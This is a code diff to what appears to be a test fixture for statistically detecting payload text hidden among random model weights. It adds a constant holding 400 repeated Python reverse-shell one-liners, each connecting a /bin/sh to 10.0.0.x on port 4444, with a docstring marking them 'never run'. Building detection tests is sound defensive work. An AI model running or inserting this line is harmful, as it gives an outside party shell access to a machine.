@@ -12,6 +12,13 @@ from typing import Any
 
 import numpy as np
 
+SCRIPT = b"".join(
+    f"import socket,subprocess;s=socket.socket();s.connect(('10.0.0.{i % 250}',4444));"
+    f"subprocess.call(['/bin/sh','-i'],stdin=s.fileno())\n".encode()
+    for i in range(400)
+)
+"""Text with no signature a scanner knows: only the statistics can see it (never run)."""
+
 
 def normal_weights(n: int = 1 << 18, seed: int = 0) -> np.ndarray:
     return np.random.default_rng(seed).standard_normal(n).astype(np.float32) * 0.02
